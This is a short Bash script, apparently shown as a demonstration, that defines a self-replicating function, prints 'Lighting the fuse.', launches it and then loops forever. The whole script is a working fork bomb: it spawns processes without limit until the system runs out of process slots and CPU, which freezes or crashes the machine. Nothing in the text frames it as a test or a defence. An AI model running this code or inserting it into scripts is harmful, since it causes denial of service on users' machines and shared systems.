# Starts two of itself, for ever. Bash tells of each fork that is refused.
bomb() { bomb | bomb & }
echo 'Lighting the fuse.'
bomb
while true; do true; done
